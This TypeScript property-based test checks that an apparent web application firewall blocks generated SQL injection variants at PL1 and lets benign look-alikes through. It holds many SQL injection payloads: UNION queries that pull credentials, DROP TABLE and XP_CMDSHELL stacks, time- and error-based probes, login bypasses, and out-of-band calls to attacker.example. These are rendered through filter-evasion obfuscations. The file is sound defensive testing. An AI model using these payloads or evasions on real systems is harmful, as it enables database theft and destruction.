// Generated SQL injection variants, and generated benign look-alikes. The attack generator
// builds payloads from SQL pieces (breakouts per injection context, tautologies, UNION SELECT,
// stacked, time-, error- and out-of-band queries), renders them through the obfuscations
// filters are evaded with (comments and odd blanks for spaces, version comments, case mixing,
// hex/char()/concatenated strings, scientific numbers, backticks, parentheses for spaces), and
// places them where an application reads them (query, form, JSON, cookie, header). Every attack
// must be blocked at PL1; no benign value may be. Seed and runs: SQLI_GEN_SEED, SQLI_GEN_RUNS.
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, type Req } from "../support/engine.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const SEED = Number(process.env.SQLI_GEN_SEED ?? 20261128);
const RUNS = Number(process.env.SQLI_GEN_RUNS ?? 400);

// ---- SQL pieces -------------------------------------------------------------------------
// A payload is a list of pieces; rendering decides how each is spelled.
type Piece =
  | { k: "kw"; v: string } // keyword or function name
  | { k: "sp" } // a blank the SQL needs
  | { k: "sp0" } // a blank the SQL may drop
  | { k: "id"; v: string } // identifier
  | { k: "num"; v: number }
  | { k: "str"; v: string; plain?: boolean } // string literal (plain: only a quoted literal is valid there)
  | { k: "raw"; v: string }; // punctuation, operators, quotes of the breakout

const kw = (v: string): Piece => ({ k: "kw", v });
const id = (v: string): Piece => ({ k: "id", v });
const num = (v: number): Piece => ({ k: "num", v });
const str = (v: string, plain = false): Piece => ({ k: "str", v, plain });
const raw = (v: string): Piece => ({ k: "raw", v });
const SP: Piece = { k: "sp" };
const SP0: Piece = { k: "sp0" };

/** Tiny SQL template language: words in UPPER case are keywords, a blank is a needed blank, `^` an optional one,
 *  #n a number, $s a string ($$s: one that must stay a quoted literal), @x an identifier, ␣ a space no blank replaces;
 *  anything else is punctuation. */
function sql(template: string): Piece[] {
  const out: Piece[] = [];
  for (const part of template.split(/(\s+|\^)/)) {
    if (part === "") continue;
    if (part === "^") { out.push(SP0); continue; }
    if (/^\s+$/.test(part)) { out.push(SP); continue; }
    let seen = 0;
    for (const m of part.matchAll(/#(\d+)|\$(\$?)([^\s,()=<>!$]+)|@([A-Za-z_][A-Za-z0-9_]*)|(@@[a-z_]+)|([A-Z_][A-Z0-9_]*)|((?:[^#$@A-Z]|#(?!\d))+?)(?=#\d|\$|@|[A-Z_]|$)/g)) {
      seen += m[0].length;
      if (m[1] !== undefined) out.push(num(Number(m[1])));
      else if (m[3] !== undefined) out.push(str(m[3], m[2] === "$"));
      else if (m[4] !== undefined) out.push(id(m[4]));
      else if (m[5] !== undefined) out.push(raw(m[5]));
      else if (m[6] !== undefined) out.push(kw(m[6]));
      else if (m[7] !== undefined) out.push(raw(m[7]));
    }
    if (seen !== part.length) throw new Error(`template piece not understood: ${part}`);
  }
  return out;
}

// Attack bodies (what follows the breakout). Each is valid SQL once spliced after its context's breakout.
const TAUTOLOGIES = [
  "OR #1=#1", "OR #1^=^#1", "AND #1=#2", "OR $a=$a", "OR #2>#1", "OR TRUE", "|| #1=#1", "OR NOT #1=#2", "AND #3-#2=#1",
  "OR #1 IN (#1,#2)", "OR $x LIKE $x", "XOR #1=#1", "OR #1 BETWEEN #0 AND #2",
];
const UNIONS = [
  "UNION SELECT #1,#2,#3", "UNION ALL SELECT NULL,NULL,NULL", "UNION SELECT @@version,#2", "UNION ALL SELECT USER(),DATABASE()",
  "UNION SELECT @table_name,#2 FROM INFORMATION_SCHEMA.TABLES", "UNION SELECT @username,@password FROM @users",
  "UNION DISTINCT SELECT #1,CONCAT(@username,$:,@password) FROM @users", "UNION SELECT NULL,VERSION()",
];
const STACKED = [
  "; DROP TABLE @users", "; SELECT PG_SLEEP(#5)", "; EXEC XP_CMDSHELL($dir)", "; INSERT INTO @users VALUES ($x,$y)",
  "; UPDATE @users SET @role=$admin WHERE @id=#1", "; SHUTDOWN", "; WAITFOR DELAY $$0:0:5", "; DELETE FROM @users",
  "; DECLARE @@q VARCHAR(#99)",
];
const TIME_BASED = [
  "AND SLEEP(#5)", "OR SLEEP(#5)", "AND (SELECT #1 FROM (SELECT SLEEP(#5))@a)", "AND BENCHMARK(#5000000,MD5(#1))",
  "OR IF(#1=#1,SLEEP(#5),#0)", "AND #1=(SELECT #1 FROM PG_SLEEP(#5))", "WAITFOR DELAY $$0:0:5", "RLIKE SLEEP(#5)",
  "AND (SELECT COUNT(*) FROM @users)>#0 AND SLEEP(#5)", "OR #1=(CASE WHEN (#1=#1) THEN PG_SLEEP(#5) ELSE #0 END)",
];
const ERROR_BASED = [
  "AND EXTRACTVALUE(#1,CONCAT(0x7e,VERSION()))", "AND UPDATEXML(#1,CONCAT(0x7e,USER()),#1)", "AND #1=CONVERT(INT,@@version)",
  "AND #1=CAST((SELECT VERSION()) AS INT)", "OR #1=CONVERT(INT,(SELECT DB_NAME()))",
  "AND (SELECT #1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(#0)*#2))@x FROM INFORMATION_SCHEMA.TABLES GROUP BY @x)@a)",
  "AND EXP(~(SELECT * FROM (SELECT USER())@a))",
];
const BLIND = [
  "AND ASCII(SUBSTRING((SELECT @password FROM @users LIMIT 1),#1,#1))>#64", "AND LENGTH(DATABASE())>#1",
  "AND SUBSTR(@@version,#1,#1)=$5", "AND ORD(MID(USER(),#1,#1))>#100", "AND (SELECT COUNT(*) FROM @users)>#0",
];
const OUT_OF_BAND = [
  "; EXEC MASTER..XP_DIRTREE $\\\\attacker.example\\a", "AND LOAD_FILE(CONCAT($\\\\\\\\,VERSION(),$.attacker.example\\\\a))",
  "AND #1=UTL_HTTP.REQUEST($http://attacker.example/)", "; COPY (SELECT $x) TO PROGRAM $nslookup", "UNION SELECT #1 INTO OUTFILE $/tmp/x",
];
// Breakouts that stay inside the expression: the value closes the string, concatenates a subquery or call, and
// reopens it for the application's closing quote (MSSQL +, PostgreSQL/Oracle ||, MySQL adjacent or arithmetic).
const CONCAT_BREAKOUTS = [
  "x'+(SELECT @@version)+'", "x'||(SELECT VERSION())||'", "x'||PG_SLEEP(#5)||'", "x'+CHAR(#65)+'", "x'-SLEEP(#5)-'",
  "x'||UTL_INADDR.GET_HOST_NAME((SELECT USER FROM DUAL))||'", "x' AND SLEEP(#5) AND 'a'='a", "#1-IF(#1=#1,SLEEP(#5),#0)",
  "x'*(SELECT #1 FROM(SELECT SLEEP(#5))@a)*'", "x' AND (SELECT SUBSTRING(@password,#1,#1) FROM @users LIMIT 1)=$a AND '1'='1",
];
// Authentication bypasses: the classic whole values of a login form.
const AUTH_BYPASSES = [
  "admin'--", "admin'#", "admin'/*", "' OR ''='", "' OR #1 --␣-", "') OR ('a'='a", "\" OR \"\"=\"", "' OR 'x'='x", "1' OR '1'='1'/*",
  "admin' OR #1=#1#", "' OR #1=#1 LIMIT 1--␣-", "admin') --␣-", "' OR TRUE--␣-", "'=' OR '",
];
const ORDER_BY_BODIES = [
  ", (SELECT CASE WHEN (#1=#1) THEN #1 ELSE #1/#0 END)", ", IF(#1=#1,SLEEP(#5),#0)", " ,(SELECT #1 FROM PG_SLEEP(#5))",
  ", EXTRACTVALUE(#1,CONCAT(0x7e,VERSION()))",
];
// The same families with other operators and spellings: && || <> != DIV, REGEXP, glued parentheses for blanks.
const OPERATORS = [
  "&& #1=#1", "|| $a<>$b", "AND #2!=#3", "OR #4 DIV #2=#2", "AND #1 REGEXP #1", "OR NOT(#1=#2)", "AND(#1)=(#1)",
  "OR(SELECT(SLEEP(#5)))", "AND(SELECT #1 FROM(SELECT(SLEEP(#5)))@a)", "UNION(SELECT(#1),(#2))", "OR #1 SOUNDS LIKE #1",
  "AND #1=#1 AND $a LIKE $a", "AND @@version LIKE $5%", "OR ASCII(USER())>#0",
];
const CLAUSES = [
  "ORDER BY #3", "GROUP BY #1,#2,#3", "HAVING #1=#1", "UNION SELECT #1,#2 FROM DUAL", "PROCEDURE ANALYSE()",
  "UNION SELECT * FROM (SELECT #1)@a JOIN (SELECT #2)@b", "LIMIT #1 INTO @@x", "UNION SELECT TOP #1 @name FROM SYSOBJECTS",
];
const MORE_STACKED = [
  "; EXEC($sel+$ect)", "; EXEC SP_EXECUTESQL N$$select", "; CREATE TABLE @x(@a INT)", "; ALTER TABLE @users ADD @x INT",
  "; TRUNCATE TABLE @logs", "; SELECT DBMS_PIPE.RECEIVE_MESSAGE($a,#5) FROM DUAL", "; LOAD DATA INFILE $/etc/passwd INTO TABLE @x",
  "; SET @@x=#1", "; SELECT * FROM @users",
];
const MORE_TIME_ERROR = [
  "AND #1=IF(#2>#1,SLEEP(#5),#0)", "OR #1=(SELECT #1 FROM (SELECT SLEEP(#5))@a)", "AND #1=DBMS_PIPE.RECEIVE_MESSAGE($a,#5)",
  "AND RANDOMBLOB(#100000000)", "AND GTID_SUBSET(CONCAT(0x7e,(SELECT VERSION())),#1)",
  "AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,USER())) USING @utf8)))", "OR #1 GROUP BY CONCAT(VERSION(),FLOOR(RAND(#0)*#2)) HAVING MIN(#0)",
  "AND #1=(SELECT TOP #1 @name FROM SYSOBJECTS)", "AND ROW(#1,#1)>(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(#0)*#2))@x FROM INFORMATION_SCHEMA.TABLES GROUP BY @x)",
  "AND #1=UTL_INADDR.GET_HOST_ADDRESS($x.attacker.example)", "AND EXTRACTVALUE(XMLTYPE($x),$/l)",
];
const FAMILIES = { TAUTOLOGIES, UNIONS, STACKED, TIME_BASED, ERROR_BASED, BLIND, OUT_OF_BAND, OPERATORS, CLAUSES, MORE_STACKED, MORE_TIME_ERROR };
const BODIES = Object.values(FAMILIES).flat();

// ---- contexts -----------------------------------------------------------------------------
// An injection context: the breakout that leaves the application's literal, and how the tail
// deals with what the application's query still has after the value (a comment that truncates
// it, or re-opening its quote).
interface Context { name: string; open: string[]; tails: string[] }
const CONTEXTS: Context[] = [
  { name: "numeric", open: ["1", "-1", "0", "1e0", "1.", "42"], tails: ["", "-- -", "#", "/*", ";--"] },
  { name: "single-quoted", open: ["x'", "'", "admin'", "1'"], tails: ["-- -", "#", "/*", " AND 'a'='a", " OR '1'='", ";--"] },
  { name: "double-quoted", open: ["x\"", "\"", "1\""], tails: ["-- -", "#", " AND \"a\"=\"a", ";--"] },
  { name: "parenthesised", open: ["1)", "x')", "1))", "x\")"], tails: ["-- -", "#", ";--"] },
  { name: "LIKE", open: ["%'", "abc%'", "%\""], tails: ["-- -", "#", " AND '%'='"] },
];

// ---- rendering ------------------------------------------------------------------------------
interface Style {
  blank: string; // what stands for a space
  mixCase: boolean;
  versionComments: boolean;
  backticks: boolean;
  strings: "quote" | "hex" | "char" | "concat" | "pipes";
  sciNumbers: boolean;
  dropOptional: boolean;
  seed: number;
}

// What stands for a space: blanks MySQL, MSSQL and PostgreSQL skip, comments, and comments that end at a line break.
const BLANKS = [" ", "  ", "/**/", "/*x*/", "\n", "\t", "\f", "\r\n", "\u00a0", "\v", "--\n", "#\n", "-- x\n", "/*!*/", "\t\n"];

function mix(word: string, seed: number): string {
  let out = "";
  for (let i = 0; i < word.length; i++) out += (seed >> i % 16) & 1 ? word[i].toLowerCase() : word[i].toUpperCase();
  return out;
}

function hex(s: string): string {
  return "0x" + Buffer.from(s).toString("hex");
}

function renderString(v: string, st: Style, q: string): string {
  switch (st.strings) {
    case "hex": return v.length > 0 ? hex(v) : `${q}${q}`;
    case "char": return `CHAR(${[...v].map((c) => c.charCodeAt(0)).join(",")})`;
    case "concat": return v.length > 1 ? `CONCAT(${q}${v.slice(0, 1)}${q},${q}${v.slice(1)}${q})` : `${q}${v}${q}`;
    case "pipes": return v.length > 1 ? `${q}${v.slice(0, 1)}${q}||${q}${v.slice(1)}${q}` : `${q}${v}${q}`;
    default: return `${q}${v}${q}`;
  }
}

function render(pieces: Piece[], st: Style, quote = "'"): string {
  let out = "";
  let n = st.seed;
  for (let i = 0; i < pieces.length; i++) {
    const p = pieces[i];
    n = (n * 1103515245 + 12345) >>> 0;
    switch (p.k) {
      case "sp": out += st.blank; break;
      case "sp0": out += st.dropOptional ? "" : st.blank; break;
      case "kw": {
        const word = st.mixCase ? mix(p.v, n >>> 8) : p.v;
        // version comments around statement words only: /*!50000UNION*/ /*!SELECT*/
        out += st.versionComments && /^(UNION|SELECT|AND|OR|FROM|SLEEP)$/.test(p.v) ? `/*!${n & 1 ? "50000" : ""}${word}*/` : word;
        break;
      }
      case "id": out += st.backticks ? `\`${p.v}\`` : p.v; break;
      case "num": out += st.sciNumbers && Number.isInteger(p.v) && p.v < 100 ? `${p.v}e0` : String(p.v); break;
      case "str": out += p.plain ? `${quote}${p.v}${quote}` : renderString(p.v, st, quote); break;
      case "raw": out += p.v.replaceAll("␣", " "); break;
    }
  }
  return out;
}

const style = fc.record({
  blank: fc.constantFrom(...BLANKS),
  mixCase: fc.boolean(),
  versionComments: fc.boolean(),
  backticks: fc.boolean(),
  strings: fc.constantFrom("quote" as const, "hex" as const, "char" as const, "concat" as const, "pipes" as const),
  sciNumbers: fc.boolean(),
  dropOptional: fc.boolean(),
  seed: fc.nat(),
});

// ---- placement --------------------------------------------------------------------------------
/** Percent-encodes a value as a browser or a tool would (bytes above 0x7e raw as %XX, `+` for spaces optionally). */
function urlEncode(v: string, plus: boolean): string {
  const bytes = Buffer.from(v, "latin1");
  let out = "";
  for (const b of bytes) {
    const c = String.fromCharCode(b);
    if (/[A-Za-z0-9_.~-]/.test(c)) out += c;
    else if (b === 0x20 && plus) out += "+";
    else out += "%" + b.toString(16).toUpperCase().padStart(2, "0");
  }
  return out;
}

type Place = "query" | "query2" | "form" | "json" | "xml" | "multipart" | "cookie" | "header" | "user-agent" | "referer" | "path";
// (the Referer's query values are read as values of their own: patterns that need the start of a value apply there)
const PLACES: Place[] = ["query", "query2", "form", "json", "xml", "multipart", "cookie", "header", "user-agent", "path", "referer"];
const SURVEY_PLACES: Place[] = PLACES;

function request(place: Place, value: string, plus: boolean): Req {
  const host: [string, string] = ["host", "shop.local"];
  switch (place) {
    case "query": return { path: `/items?id=${urlEncode(value, plus)}&sort=asc`, headers: [host] };
    // encoded twice (spaces as %2520: a `+` encoded again is a plus sign, whatever the application decodes)
    case "query2": return { path: `/items?id=${urlEncode(urlEncode(value, false), false)}`, headers: [host] };
    case "user-agent": return { path: "/", headers: [host, ["user-agent", value.replace(/[\r\n]/g, " ")]] };
    // (a `+` for a space is left out here: the header is percent-decoded, not form-decoded, so `'+OR+'` stays glued)
    case "referer": return { path: "/", headers: [host, ["referer", `https://shop.local/items?id=${urlEncode(value, false)}`]] };
    case "form": return { method: "POST", path: "/login", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `user=${urlEncode(value, plus)}&pass=x` };
    case "json": return { method: "POST", path: "/api/items", headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ filter: { id: value }, page: 1 }) };
    case "xml": {
      const esc = value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/'/g, "&apos;").replace(/"/g, "&quot;");
      return { method: "POST", path: "/soap", headers: [host, ["content-type", "text/xml"]], body: `<?xml version="1.0"?><Envelope><Body><GetItem><id>${esc}</id></GetItem></Body></Envelope>` };
    }
    case "multipart": return {
      method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=XyZ"]],
      body: `--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\n${value}\r\n--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nhello\r\n--XyZ--\r\n`,
    };
    case "cookie": return { path: "/", headers: [host, ["cookie", `lang=en; sid=${urlEncode(value, false)}`]] };
    case "header": return { path: "/", headers: [host, ["x-forwarded-for", value.replace(/[\r\n]/g, " ")]] };
    case "path": return { path: `/items/${urlEncode(value, false)}/reviews`, headers: [host] };
  }
}

/** The value JSON, headers and paths carry: no raw non-UTF-8 byte (a 0xA0 blank only travels percent-encoded). */
function blankFits(place: Place, blank: string): boolean {
  if (blank === "\u00a0") return place === "query" || place === "query2" || place === "form" || place === "cookie" || place === "path" || place === "referer";
  if (place === "header" || place === "user-agent") return !/[\r\n\f\v]/.test(blank);
  if (place === "xml") return !/[\f\v]/.test(blank); // not characters XML allows
  if (place === "multipart") return !/[\r\n]/.test(blank); // one line: a field value, not its boundary
  return true;
}

// ---- generators ---------------------------------------------------------------------------------
const attackIn = (places: Place[]) => fc
  .record({
    ctx: fc.constantFrom(...CONTEXTS),
    body: fc.constantFrom(...BODIES),
    st: style,
    place: fc.constantFrom(...places),
    plus: fc.boolean(),
    o: fc.nat(),
    tl: fc.nat(),
  })
  .filter(({ st, place }) => blankFits(place, st.blank))
  .map(({ ctx, body, st, place, plus, o, tl }) => {
    const open = ctx.open[o % ctx.open.length];
    const quote = ctx.name === "double-quoted" ? "\"" : "'";
    const tail = ctx.tails[tl % ctx.tails.length];
    // a blank after the breakout unless the body starts with punctuation (`;`, `||`); MySQL also reads a number glued
    // to the keyword after it (1e0UNION, 1.OR) as two tokens, and a quote glued to one ('OR)
    const glue = st.dropOptional && /^[A-Z]/.test(body) && (/(e0|\.|['"])$/.test(open));
    const lead = /^[;|,]/.test(body) || glue ? "" : st.blank;
    const value = open + lead + render(sql(body), st, quote) + (tail.startsWith(" ") ? st.blank + tail.slice(1) : tail);
    return { value, place, plus, req: request(place, value, plus) };
  });

const orderBy = fc
  .record({ col: fc.constantFrom("name", "price", "1", "id desc"), body: fc.constantFrom(...ORDER_BY_BODIES), st: style, place: fc.constantFrom<Place>("query", "json", "form") })
  .filter(({ st, place }) => blankFits(place, st.blank))
  .map(({ col, body, st, place }) => {
    const value = col + render(sql(body), st);
    return { value, place, plus: false, req: request(place, value, false) };
  });

const wholeIn = (places: Place[]) => fc
  .record({ body: fc.constantFrom(...CONCAT_BREAKOUTS, ...AUTH_BYPASSES), st: style, place: fc.constantFrom(...places), plus: fc.boolean() })
  .filter(({ st, place }) => blankFits(place, st.blank))
  .map(({ body, st, place, plus }) => {
    const value = render(sql(body), { ...st, strings: st.strings === "hex" ? "quote" : st.strings });
    return { value, place, plus, req: request(place, value, plus) };
  });

// Benign values that look like SQL to a careless filter.
const NAMES = ["O'Brien", "D'Angelo", "O'Neil-Smith", "Ngũgĩ wa Thiong'o", "Mary-Kate O'Hara", "Jean-Luc d'Arcy", "L'Oréal"];
const PROSE = [
  "Please select the items from the list below",
  "I'd like to select a seat from row 5",
  "Don't drop the ball on this one",
  "We met at Union Station and had a drink",
  "Sort them by date, or by price if you prefer",
  "order by tomorrow for delivery on Friday",
  "Where's the update from the team?",
  "Insert coin to continue; then select your player",
  "It's 5 o'clock somewhere, isn't it?",
  "The union of two sets contains all elements from both",
  "Delete my account, please: I no longer use it",
  "rock 'n' roll and blues, 1950s - 1970s",
  "My password is not 1234 or 0000 anymore",
  "Is 2 > 1? Yes, it always is.",
  "sleep is important: 8 hours a day",
  "Use char(10) for a line break in Excel",
];
const CODE_COMMENTS = [
  "// TODO: replace SELECT * with explicit columns",
  "# fetch users with SELECT name FROM users WHERE id = ?",
  "/* uses the orders table; see the union of both reports */",
  "-- reviewed by Ann, 2024-03-05",
  "query = db.prepare(\"SELECT id FROM t WHERE a = ?\")",
  "// SELECT * FROM users WHERE id = ?",
  "-- TODO: add an index on orders(date)",
  "/* select the rows from the cache */",
  "Use ORDER BY 2 DESC to sort by the second column",
];
const NUMBERS = ["555-123-4567", "978-3-16-148410-0", "2024-01-05", "+1 (555) 010-9999", "12-34-56", "4111-1111-1111-1111", "v1.2.3-rc1", "-42", "3.14e-10"];
const EMAILS = ["o'brien@example.com", "ann.lee+shop@mail.example.org", "first.last@sub.domain.co.uk"];
const URLS = ["https://example.com/search?q=select+from&order=desc", "http://shop.local/items?id=1&sort=price", "https://en.wikipedia.org/wiki/Union_(set_theory)"];

// Sentences that put SQL words where English puts them: a subject, a verb that is also a SQL keyword, an object, a tail.
const SUBJECTS = ["I", "We", "Customers", "O'Brien", "The team", "My mom's friend", "Please", "You can", "Don't", "Kids"];
const VERBS = ["select", "update", "drop", "order", "insert", "delete", "join", "union", "sleep", "create", "alter", "execute", "grant", "replace", "set", "union all"];
const OBJECTS = [
  "the best option", "a line", "my account", "the kids' toys", "it by tomorrow", "10 items", "one from the menu", "into the pool",
  "like it's 5 o'clock", "by 5-10%", "where it says 'done'", "all of them", "as usual", "in 2 or 3 days", "if you can",
];
const TAILS = ["", ".", "!", " or not?", " and more.", " - thanks", " (see 2024-01-05)", ", then leave at 5-6 pm", " - it's 1 or 2 hours", "; ok?", " :)"];
const sentence = fc
  .tuple(fc.constantFrom(...SUBJECTS), fc.constantFrom(...VERBS), fc.constantFrom(...OBJECTS), fc.constantFrom(...TAILS))
  .map(([a, b, c, d]) => `${a} ${b} ${c}${d}`);

const benignText = fc.oneof(
  fc.constantFrom(...NAMES, ...PROSE, ...CODE_COMMENTS, ...NUMBERS, ...EMAILS, ...URLS),
  sentence,
  fc.tuple(sentence, sentence).map(([a, b]) => `${a} ${b}`),
  fc.tuple(fc.constantFrom(...NAMES), fc.constantFrom(...PROSE)).map(([n, p]) => `${n}: ${p}`),
  fc.tuple(fc.constantFrom(...PROSE), fc.constantFrom(...NUMBERS)).map(([p, n]) => `${p} (${n})`),
);
const benign = fc
  .record({ value: benignText, place: fc.constantFrom<Place>("query", "form", "json", "cookie", "header", "user-agent", "referer"), plus: fc.boolean() })
  .map(({ value, place, plus }) => ({ value, place, plus, req: request(place, value, plus) }));

// ---- properties -----------------------------------------------------------------------------------
describe("generated SQL injection variants", () => {
  it("blocks every generated attack at PL1, in every context and place", () => {
    fc.assert(
      fc.property(fc.oneof({ weight: 6, arbitrary: attackIn(PLACES) }, { weight: 1, arbitrary: orderBy }, { weight: 2, arbitrary: wholeIn(PLACES) }), ({ value, place, req }) => {
        const v = inspect(h, req);
        expect(v.attack, `${place}: ${JSON.stringify(value)} scored ${v.score}`).toBe(true);
      }),
      { seed: SEED, numRuns: RUNS },
    );
  });

  it("lets every generated benign look-alike through at PL1", () => {
    fc.assert(
      fc.property(benign, ({ value, place, req }) => {
        const v = inspect(h, req);
        expect(v.attack, `${place}: ${JSON.stringify(value)} scored ${v.score}: ${v.matches.map((m) => m.id).join(",")}`).toBe(false);
      }),
      { seed: SEED, numRuns: RUNS },
    );
  });
});

// Exploration: SQLI_GEN_SURVEY=N lists every miss among N samples instead of stopping at the first.
if (process.env.SQLI_GEN_SURVEY) {
  it("survey", () => {
    const n = Number(process.env.SQLI_GEN_SURVEY);
    const misses: string[] = [];
    for (const a of fc.sample(fc.oneof({ weight: 6, arbitrary: attackIn(SURVEY_PLACES) }, { weight: 1, arbitrary: orderBy }, { weight: 2, arbitrary: wholeIn(SURVEY_PLACES) }), { seed: SEED, numRuns: n })) {
      const v = inspect(h, a.req);
      if (!v.attack) misses.push(`${a.place}\t${v.score}\t${JSON.stringify(a.value).replace(/[\u0080-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}`);
    }
    const fps: string[] = [];
    for (const b of fc.sample(benign, { seed: SEED, numRuns: n })) {
      const v = inspect(h, b.req);
      if (v.attack) fps.push(`${b.place}\t${v.score}\t${JSON.stringify(b.value)}\t${v.matches.map((m) => m.id).join(",")}`);
    }
    console.log(`MISSES ${misses.length}/${n}\n${misses.join("\n")}\nFPS ${fps.length}/${n}\n${[...new Set(fps)].join("\n")}`);
  });
}
